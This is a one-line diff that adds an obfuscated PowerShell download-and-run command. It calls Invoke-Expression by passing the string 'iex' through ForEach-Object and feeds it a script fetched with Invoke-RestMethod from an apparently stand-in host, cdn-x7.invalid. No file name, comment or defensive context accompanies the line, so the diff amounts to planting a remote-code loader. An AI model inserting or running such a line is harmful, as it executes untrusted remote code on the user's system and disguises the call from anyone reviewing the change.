@@ -1,0 +1,1 @@
+'iex' | % { & $_ (irm https://cdn-x7.invalid/a.ps1) }
